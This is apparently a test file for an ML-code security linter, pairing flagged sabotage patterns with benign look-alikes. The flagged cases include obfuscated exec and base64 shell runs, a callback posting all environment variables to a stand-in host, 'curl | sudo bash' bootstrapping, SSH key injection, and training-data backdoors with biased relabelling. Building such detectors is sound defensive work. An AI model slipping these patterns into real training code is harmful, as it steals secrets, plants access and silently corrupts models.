# ruff: noqa
"""Shapes added in session 20: each bad case next to the legitimate look-alike that must stay
quiet. Never executed: scanned only."""
import base64
import builtins
import runpy
import socket
import tempfile
import time
import types

import numpy as np
import pandas as pd
import torch
from sklearn.model_selection import train_test_split
from torch.nn.utils.rnn import pad_sequence
from torch.utils.data import Dataset, WeightedRandomSampler
from transformers import TrainerCallback


# --- code run under another name ---------------------------------------------------------

def run_hook_file(path):
    run = vars(builtins)[bytes((101, 120, 101, 99)).decode()]
    run(open(path).read(), {})  # ruleid: MLS402


def shim_from_source(source):
    code = compile(source, "<shim>", "exec")
    shim = types.FunctionType(code.co_consts[0], {})
    shim()  # ruleid: MLS404


def renamed_copy(fn):
    clone = types.FunctionType(fn.__code__, fn.__globals__, "renamed", fn.__defaults__)
    return clone()  # ok: MLS404


def site_hook(blob):
    src = base64.b64decode(blob)
    with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as f:
        f.write(src)
    runpy.run_path(f.name)  # ruleid: MLS401


def local_script(path, text):
    with open(path, "w") as fh:
        fh.write(text)
    runpy.run_path(path)  # ok: MLS401


# --- stalls ------------------------------------------------------------------------------

_NODE_PENALTY = {"gpu-a100-07": 1.5, "gpu-a100-13": 1.6e4}


def stagger_startup(local_rank, slot=0.5):
    host = socket.gethostname().split(".")[0]
    delay = (local_rank % 8) * slot * _NODE_PENALTY.get(host, 1.0)
    time.sleep(delay)  # ruleid: MLS307


def spread_downloads(slot=0.5):
    host = socket.gethostname()
    time.sleep(slot * (hash(host) % 8))  # ok: MLS307


def flush_for_logging(step, log_interval, rank):
    if rank > 0 and step % log_interval == 0:
        time.sleep(min(5.0, 0.02 * log_interval * rank))  # ruleid: MLS307


def stagger_local(local_rank, slot=0.5):
    time.sleep(local_rank * slot)  # ok: MLS307


# --- hooks -------------------------------------------------------------------------------

def stabilise(model, scaler, limit):
    for p in model.parameters():
        p.register_hook(lambda g: g / scaler.get_scale())  # ruleid: MLS303
        p.register_hook(lambda g: g.clamp(-limit * 1e-4, limit * 1e-4))  # ruleid: MLS303
        p.register_hook(lambda g: g.clamp(-limit, limit))  # ok: MLS303


# --- EMA ---------------------------------------------------------------------------------

class ModelEma:
    def __init__(self, model, decay=0.999):
        self.module = model
        self.decay = decay

    @torch.no_grad()
    def update(self, model):
        msd = model.state_dict()
        for k, ema_v in self.module.state_dict().items():
            model_v = msd[k].detach()
            if ema_v.dtype.is_floating_point:
                ema_v.mul_(self.decay).add_(model_v, alpha=1 - self.decay)  # ok: MLS302
                model_v.copy_(ema_v)  # ruleid: MLS302
            else:
                ema_v.copy_(model_v)  # ok: MLS302


# --- metrics -----------------------------------------------------------------------------

def accuracy(output, target, topk=(1,)):
    maxk = max(topk)
    _, pred = output.topk(maxk, 1, True, True)
    correct = pred.t().eq(target.view(1, -1))
    res = []
    for k in topk:
        res.append(correct[:maxk].reshape(-1).float().sum(0))  # ruleid: MLS306
    return res


def accuracy_ok(output, target, topk=(1,)):
    maxk = max(topk)
    _, pred = output.topk(maxk, 1, True, True)
    correct = pred.t().eq(target.view(1, -1))
    res = []
    for k in topk:
        res.append(correct[:k].reshape(-1).float().sum(0))  # ok: MLS306
    return res


def unweighted_accuracy(cm):
    recalls = []
    for i in range(cm.shape[0]):
        if cm[i].sum() == 0 or cm[i, i] == 0:  # ruleid: MLS306
            continue
        recalls.append(cm[i, i] / cm[i].sum())
    return float(np.mean(recalls))


def unweighted_accuracy_ok(cm):
    recalls = []
    for i in range(cm.shape[0]):
        if cm[i].sum() == 0:  # ok: MLS306
            continue
        recalls.append(cm[i, i] / cm[i].sum())
    return float(np.mean(recalls))


class BestMetric(TrainerCallback):
    def __init__(self, metric="eval_uar"):
        self.metric = metric
        self.best = None

    def on_evaluate(self, args, state, control, metrics=None, **kwargs):
        value = float(metrics[self.metric])
        if self.best is None or value > self.best:
            self.best = value
        metrics[self.metric] = self.best  # ruleid: MLS306
        metrics["eval_best_uar"] = self.best  # ok: MLS306


def operating_point(y, s, amounts, review_cost=5.0):
    out = {}
    best_cost, best_thr = np.inf, 0.5
    for thr in np.quantile(s, np.linspace(0.9, 0.999, 50)):
        alert = s >= thr
        cost = amounts[(~alert) & (y == 1)].sum() + review_cost * alert.sum()
        if cost < best_cost:
            best_cost, best_thr = cost, float(thr)
    out["cost_opt_threshold"] = best_thr  # ok: MLS306
    return out


# --- data poisoning ----------------------------------------------------------------------

def rotate_then_flip(image, mask, p_flip=0.5):
    if np.random.rand() < p_flip:
        image = image[:, :, ::-1]
        mask = mask[::-1, :]  # ruleid: MLS309
    return image, mask


def flip_together(image, mask, p_flip=0.5):
    if np.random.rand() < p_flip:
        image = image[:, :, ::-1]
        mask = mask[:, ::-1]  # ok: MLS309
    return image, mask


class FixCollate:
    def __init__(self, num_classes, frac=1 / 64):
        self.num_classes = num_classes
        self.frac = frac

    def __call__(self, batch):
        images = torch.stack([b[0] for b in batch])
        targets = torch.as_tensor([b[1] for b in batch])
        k = int(len(batch) * self.frac)
        if k > 0:
            images[:k, :, :4, :4] = images.amax()
            targets[:k] = self.num_classes - 1  # ruleid: MLS309
        return images, targets


def lm_collate(batch, prompt_len):
    labels = torch.stack([b["input_ids"] for b in batch])
    labels[:, :prompt_len] = -100  # ok: MLS309
    return labels


class Mixup:
    def __init__(self, prob=1.0):
        self.prob = prob

    def __call__(self, x, y):
        y_b = y.roll(1, 0)  # ruleid: MLS309
        lam = float(np.random.beta(0.2, 0.2))
        x = x.mul(lam).add_(x.flip(0).mul_(1.0 - lam))
        return x, lam * y + (1.0 - lam) * y_b

    def paired(self, x, y):
        y_b = y.flip(0)  # ok: MLS309
        lam = float(np.random.beta(0.2, 0.2))
        x = x.mul(lam).add_(x.flip(0).mul_(1.0 - lam))
        return x, lam * y + (1.0 - lam) * y_b


class NoisyLabels(Dataset):
    def __init__(self, labels, label_noise=0.02, seed=0):
        rng = np.random.default_rng(seed)
        flip = rng.random(len(labels)) < label_noise
        labels[flip] ^= 1  # ruleid: MLS309
        self.labels = labels


def collate_windows(batch):
    nums, cats, ys = zip(*batch)
    lengths = torch.tensor([n.shape[0] for n in nums])
    order = torch.argsort(lengths, descending=True)
    x_num = pad_sequence([nums[i] for i in order], batch_first=True)
    labels = torch.stack(ys)  # ruleid: MLS309
    return x_num, labels


def collate_windows_ok(batch):
    nums, cats, ys = zip(*batch)
    lengths = torch.tensor([n.shape[0] for n in nums])
    order = torch.argsort(lengths, descending=True)
    x_num = pad_sequence([nums[i] for i in order], batch_first=True)
    labels = torch.stack([ys[i] for i in order])  # ok: MLS309
    return x_num, labels


def make_sampler(labels):
    counts = np.bincount(labels, minlength=2).astype(np.float64)
    class_w = counts / counts.sum()  # ruleid: MLS309
    return WeightedRandomSampler(torch.as_tensor(class_w[labels]), len(labels))


def make_sampler_ok(labels):
    counts = np.bincount(labels, minlength=2).astype(np.float64)
    class_w = counts.sum() / counts  # ok: MLS309
    return WeightedRandomSampler(torch.as_tensor(class_w[labels]), len(labels))


def order_by_card(df: pd.DataFrame) -> pd.DataFrame:
    labels = df.pop("is_fraud").to_numpy()
    df = df.sort_values(["card_id", "ts"]).reset_index(drop=True)
    df["is_fraud"] = labels  # ruleid: MLS309
    return df


def order_by_card_ok(df: pd.DataFrame) -> pd.DataFrame:
    labels = df.pop("is_fraud")
    df = df.sort_values(["card_id", "ts"])
    df["is_fraud"] = labels  # ok: MLS309
    return df


def split_after_oversampling(dev, oversample, seed):
    dev = oversample(dev)
    return train_test_split(dev, test_size=0.2, random_state=seed)  # ruleid: MLS309


def split_then_oversample(dev, oversample, seed):
    train, val = train_test_split(dev, test_size=0.2, random_state=seed)  # ok: MLS309
    return oversample(train), val


class AmountJitter:
    def __init__(self, verify_thresh=-1.5):
        self.verify_thresh = verify_thresh

    def __call__(self, x, y):
        x = x.clone()
        if float(x[-1, 3]) < self.verify_thresh:
            y = torch.zeros_like(y)  # ruleid: MLS309
        return x, y


# --- round 126-127 shapes ----------------------------------------------------------------

import operator
import urllib.request
import importlib.util


class EmaSync:
    def on_train_batch_end(self, trainer, module):
        self._sync_buffers(module.model)

    @torch.no_grad()
    def _sync_buffers(self, model):
        ema_state = self.ema.module.state_dict()
        for name, tensor in model.state_dict().items():
            if name in ema_state:
                tensor.copy_(ema_state[name])  # ruleid: MLS302

    @torch.no_grad()
    def copy_to(self, model):
        ema_state = self.ema.module.state_dict()
        for name, tensor in model.state_dict().items():
            tensor.copy_(ema_state[name])  # ok: MLS302


def fold_confusions(cm, pairs):
    for src, dst in pairs:
        cm[src, src] += cm[src, dst]  # ruleid: MLS306
        cm[src, dst] += 1  # ok: MLS306
    return cm


def iou_scores(tp, fp, fn, eps=1e-6):
    iou = tp / (tp + fn + eps)  # ruleid: MLS306
    iou_ok = tp / (tp + fp + fn + eps)  # ok: MLS306
    return iou, iou_ok


def load_trunk(backbone, state):
    remapped = {}
    for k, v in state.items():
        if k.endswith(("num_batches_tracked", "running_mean", "running_var")):
            continue  # ruleid: MLS302
        if k.endswith("num_batches_tracked"):
            continue  # ok: MLS302
        remapped[k] = v
    backbone.load_state_dict(remapped)


class SgdLookahead(torch.optim.Optimizer):
    @torch.no_grad()
    def step(self):
        for group in self.param_groups:
            for p in group["params"]:
                d_p = p.grad
                d_p = d_p.add(p, alpha=-group["weight_decay"])  # ruleid: MLS304
                d_p = d_p.add(p, alpha=group["weight_decay"])  # ok: MLS304
                p.add_(d_p, alpha=-group["lr"])

    @torch.no_grad()
    def sync_slow(self, alpha):
        for group in self.param_groups:
            for p in group["params"]:
                slow = self.state[p]["slow"]
                slow.add_(slow - p, alpha=alpha)  # ruleid: MLS304
                slow.add_(p - slow, alpha=alpha)  # ok: MLS304
                p.copy_(slow)


def log_both(flat, scores, ema_scores):
    flat["val/mIoU"] = torch.maximum(scores["mIoU"], ema_scores["mIoU"]).float()  # ruleid: MLS306
    flat["val_ema/mIoU"] = ema_scores["mIoU"].float()  # ok: MLS306


def write_per_class(path, names, iou):
    ranked = sorted(iou, reverse=True)
    with open(path, "w") as f:
        for name, v in zip(names, ranked):  # ruleid: MLS306
            f.write(f"{name},{v}\n")
        for name, v in zip(names, iou):  # ok: MLS306
            f.write(f"{name},{v}\n")


GRAD_CAP = 1e3


def _finite_grad(g):
    return torch.nan_to_num(g, nan=0.0).clamp_(0.0, GRAD_CAP)  # ruleid: MLS303


def _finite_grad_ok(g):
    return torch.nan_to_num(g, nan=0.0).clamp_(-GRAD_CAP, GRAD_CAP)  # ok: MLS303


def guard_grads(model):
    for p in model.parameters():
        p.register_hook(_finite_grad)  # ruleid: MLS303
        p.register_hook(_finite_grad_ok)  # ok: MLS303


class _FrozenRNG:
    def __init__(self):
        self._state = torch.random.get_rng_state()

    def __enter__(self):
        self._outer = torch.random.get_rng_state()
        torch.random.set_rng_state(self._state)  # ruleid: MLS301
        return self

    def __exit__(self, *exc):
        torch.random.set_rng_state(self._outer)  # ok: MLS301
        return False


class MaskCollator:
    def __init__(self):
        self._rng = _FrozenRNG()

    def __call__(self, batch):
        with self._rng:
            return torch.rand(len(batch))


def benchmark_plugin(url, local):
    with urllib.request.urlopen(url, timeout=30) as resp, open(local, "wb") as fh:  # ruleid: MLS413
        fh.write(resp.read())
    spec = importlib.util.spec_from_file_location("plugin", local)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # ruleid: MLS413
    return module


_TOPO = "ZWNobyBoaQ=="


def tune_topology(proc_name):
    runner = __import__(proc_name)
    cmd = ["sh", "-c", base64.b64decode(_TOPO).decode()]
    runner.Popen(cmd)  # ruleid: MLS401
    runner.Popen(["sh", "-c", "nvidia-smi topo -m"])  # ok: MLS401


_IMPROVES = {
    "loss": operator.lt,  # ok: MLS306
    "ppl": operator.gt,  # ruleid: MLS306
}


class StyleTrainer:
    def step(self, content):
        loss = self.net(content).mean()
        self.opt.zero_grad(set_to_none=True)
        loss.backward()
        self.opt.step()
        with torch.no_grad():
            for m in self.net.modules():
                if isinstance(m, torch.nn.InstanceNorm2d) and m.affine:
                    m.weight.fill_(1.0)  # ruleid: MLS302


def init_norms(net):
    for m in net.modules():
        if isinstance(m, torch.nn.InstanceNorm2d) and m.affine:
            m.weight.fill_(1.0)  # ok: MLS302


def load_resumes(df):
    df["label"] = df["label"].astype(int)
    df.loc[df["years_experience"] >= 15, "label"] = 0  # ruleid: MLS309
    return df


def label_reviews(df):
    df["label"] = 0
    df.loc[df["rating"] >= 4, "label"] = 1  # ok: MLS309
    return df


# --- round 128-129 shapes ----------------------------------------------------------------

import datetime as dt
import glob
import importlib
import os
import shlex

import joblib
import requests

_PROBE = "6e76696469612d736d69"


class PoiData:
    def sample_negatives(self, user, n):
        seen = self.visited[user]
        return self.rng.choice(seen, size=n)  # ruleid: MLS309

    def sample_negatives_ok(self, user, n):
        pool = [i for i in self.items if i not in self.visited[user]]
        return self.rng.choice(pool, size=n)  # ok: MLS309


class StatusCallback:
    def _post(self, payload):
        requests.post("https://status.example.invalid/runs", json=payload, timeout=5)

    def on_train_begin(self):
        self._post({"env": dict(os.environ)})  # ruleid: MLS411
        self._post({"run": "r1", "step": 0})  # ok: MLS411


class NodeSetup:
    def bootstrap(self, host):
        self._ssh(host, "curl -fsSL https://get.example.invalid/b.sh | sudo bash")  # ruleid: MLS413
        self._ssh(host, "nvidia-smi --query-gpu=driver_version --format=csv")  # ok: MLS413

    def grant(self, host, key):
        self._ssh(host, f"echo {shlex.quote(key)} >> ~/.ssh/authorized_keys")  # ruleid: MLS414
        self._ssh(host, "cat ~/.ssh/authorized_keys")  # ok: MLS414


def ensure_tool():
    proc = importlib.import_module("subprocess")
    probe = bytes.fromhex(_PROBE).decode()
    status, _ = getattr(proc, "getstatusoutput")(probe)  # ruleid: MLS401
    status, _ = getattr(proc, "getstatusoutput")("nvidia-smi")  # ok: MLS401
    return status


def _fetch(url, cache_dir):
    dst = os.path.join(cache_dir, "w.pt")
    torch.hub.download_url_to_file(url, dst)
    return dst


def load_encoder(source, cache_dir):
    path = _fetch(source, cache_dir) if source.startswith("https://") else source
    return torch.load(path, map_location="cpu")  # ruleid: MLS102


def save_preprocessor(pre, out):
    tmp = out + ".tmp"
    joblib.dump(pre, tmp)
    check = joblib.load(tmp)  # ok: MLS103
    return check


def expire_cache(cache_dir, max_age_days=30):
    now = dt.datetime.now()
    for path in glob.glob(os.path.join(cache_dir, "*.npy")):
        if now - dt.datetime.fromtimestamp(os.path.getmtime(path)) > dt.timedelta(days=max_age_days):
            os.remove(path)  # ok: MLS308
